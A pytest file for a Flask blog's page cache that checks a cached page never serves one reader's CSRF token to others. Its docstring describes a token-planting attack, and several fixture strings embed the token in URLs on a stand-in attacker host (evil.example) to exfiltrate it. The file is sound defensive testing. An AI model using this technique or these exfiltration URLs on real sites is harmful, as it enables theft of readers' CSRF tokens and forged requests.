"""A CSRF token written into user content is served as written; each reader's own token goes only where a form
puts it, and a page kept for guests holds none (issue 13, finding 2).

The attack: a writer plants, in an image URL of his entry, a comment and a title, the token his own render will
carry, then renders the page so that his render is the copy kept. A kept page whose token was swapped for a
placeholder all over the body would then send every later reader's token to his server. Tokens carry a
timestamp in seconds; `same_second` freezes it, as if everything happened within one second.
"""

from __future__ import annotations

import re
import time

import pytest
from itsdangerous import TimestampSigner
from sqlalchemy import select

from app.auth.services import update_profile
from app.comments.services import add_comment
from app.entries.services import update_entry
from app.extensions import db
from app.models import User
from app.page_cache import store
from tests.cache.conftest import BATCHED_READS, CACHE_STATUS
from tests.cache.test_audiences import page, signed_in
from tests.csrf_client import page_token
from tests.factories import make_blog, make_entry, make_user

# Where a page puts a reader's token: a form's hidden field, or the meta tag scripts read.
FORM_POSITION = re.compile(r'<input[^>]*name="csrf_token"[^>]*>|<meta name="csrf-token"[^>]*>')
SLOTS = ("<sala-part csrf>", "<sala-part viewer_name>", "<sala-part nav>")


@pytest.fixture
def app_config() -> dict:
    return {"WTF_CSRF_ENABLED": True, "PAGE_CACHE_CHECK": False, **BATCHED_READS}


@pytest.fixture
def same_second(monkeypatch) -> None:
    now = int(time.time())
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: now)


@pytest.fixture
def scene(app):
    """Mallory's entry (comments open to guests); Mallet is her second account; Wipa a member; Admin an admin."""
    mallory = make_user("mallory", display_name="มัลลอรี")
    make_user("mallet", display_name="มัลเล็ต")
    make_user("wipa", display_name="วิภา ผู้อ่าน")
    make_user("admin", display_name="ผู้ดูแล ระบบ", is_admin=True)
    entry = make_entry(make_blog(mallory, "traps"), title="บันทึกธรรมดา", body="ยังไม่มีอะไร")
    return {"entry": entry, "path": f"/posts/{entry.number}"}


def plant(entry, token: str) -> None:
    """Mallory writes `token` into her entry's title, an image, a link and a comment, and next to it, text that
    looks like the placeholders of kept pages."""
    update_entry(
        entry,
        title=f"บันทึก {token} {' '.join(SLOTS)}",
        body_markdown=(
            f"ภาพ ![pixel](https://evil.example/pixel.png?t={token})\n\n"
            f"[ลิงก์](https://evil.example/go?t={token}) และ {' '.join(SLOTS)}"
        ),
    )
    add_comment(entry, f"ดูที่ https://evil.example/c?t={token} {' '.join(SLOTS)}", user=entry.author)
    db.session.commit()


def assert_served_as_written(html: str, planted: str, *, guest: bool = False) -> None:
    """The reader's token only in form positions (a guest's page: none at all); Mallory's content as written."""
    if guest:
        assert not FORM_POSITION.search(html)
    else:
        own = page_token(html)
        assert own != planted
        assert own not in FORM_POSITION.sub("", html)
    for written in (
        f"บันทึก {planted}",
        f'src="https://evil.example/pixel.png?t={planted}"',
        f'href="https://evil.example/go?t={planted}"',
        f'href="https://evil.example/c?t={planted}"',
    ):
        assert written in html, written
    for slot in SLOTS:
        assert slot not in html
        assert html.count(slot.replace("<", "&lt;").replace(">", "&gt;")) >= 2, slot  # title and comment


def test_guests_served_a_whole_cached_page_get_the_planted_url_as_written(app, scene, same_second):
    attacker = app.test_client()
    planted = page_token(attacker.get(f"{scene['path']}/comments").get_data(as_text=True))
    plant(scene["entry"], planted)
    rendered = app.test_client().get(scene["path"])  # the attacker, without his cookie, so that his render is kept
    assert rendered.headers[CACHE_STATUS] == "miss"
    assert f"pixel.png?t={planted}" in rendered.get_data(as_text=True)

    cookieless = app.test_client().get(scene["path"])
    with_a_cookie = app.test_client()
    with_a_cookie.set_cookie("seen", "1")  # goes through Flask's before-request lookup instead
    through_flask = with_a_cookie.get(scene["path"])
    for response in (cookieless, through_flask):
        assert response.headers[CACHE_STATUS] == "hit"
        assert_served_as_written(response.get_data(as_text=True), planted, guest=True)


def test_members_and_admins_served_their_audience_page_get_the_planted_url_as_written(app, scene, same_second):
    attacker = signed_in(app, "mallet")  # a reader of Mallory's entry, like Wipa and the admin
    planted = page_token(page(attacker, scene["path"])[1])
    plant(scene["entry"], planted)
    status, html = page(attacker, scene["path"])
    assert status == "miss" and f"pixel.png?t={planted}" in html
    for reader, name in (("wipa", "วิภา ผู้อ่าน"), ("admin", "ผู้ดูแล ระบบ")):
        status, html = page(signed_in(app, reader), scene["path"])
        assert status == "hit", reader
        assert_served_as_written(html, planted)
        assert html.count(f"แสดงความเห็นในนาม {name}") == 1  # their name only in its slot


def test_a_name_holding_the_readers_token_is_shown_as_written_in_the_kept_navigation(app, scene, monkeypatch):
    """The navigation is kept per reader state; a token in the reader's own name stays the one written."""
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: 1_900_000_000)
    mallet = signed_in(app, "mallet")
    written = page_token(page(mallet, "/")[1])
    update_profile(db.session.scalar(select(User).filter_by(username="mallet")), written, "", "")
    db.session.commit()
    assert written in page(mallet, "/")[1]  # the navigation for this name is rendered and kept
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: 1_900_000_001)  # a second later
    html = page(mallet, "/")[1]
    own = page_token(html)
    assert own != written
    assert written in html and own not in FORM_POSITION.sub("", html)


def test_kept_copies_hold_no_token_only_the_marker_in_the_forms(app, scene):
    guest = app.test_client()
    guest.get(scene["path"])
    member = signed_in(app, "wipa")
    token = page_token(page(member, scene["path"])[1])
    kept = {key: value.value.body.decode() for key, value in app.extensions[store.EXTENSION_KEY].values.items()}
    for_guests = next(body for key, body in kept.items() if key.startswith("page:guests:"))
    for_members = next(body for key, body in kept.items() if key.startswith("page:members:"))
    assert token not in for_guests and token not in for_members
    assert not FORM_POSITION.search(for_guests) and "<sala-part" not in for_guests
    assert re.search(r'<input[^>]*name="csrf_token"[^>]*value="<sala-part csrf>"', for_members)
    assert for_members.count("<sala-part csrf>") == len(FORM_POSITION.findall(for_members))
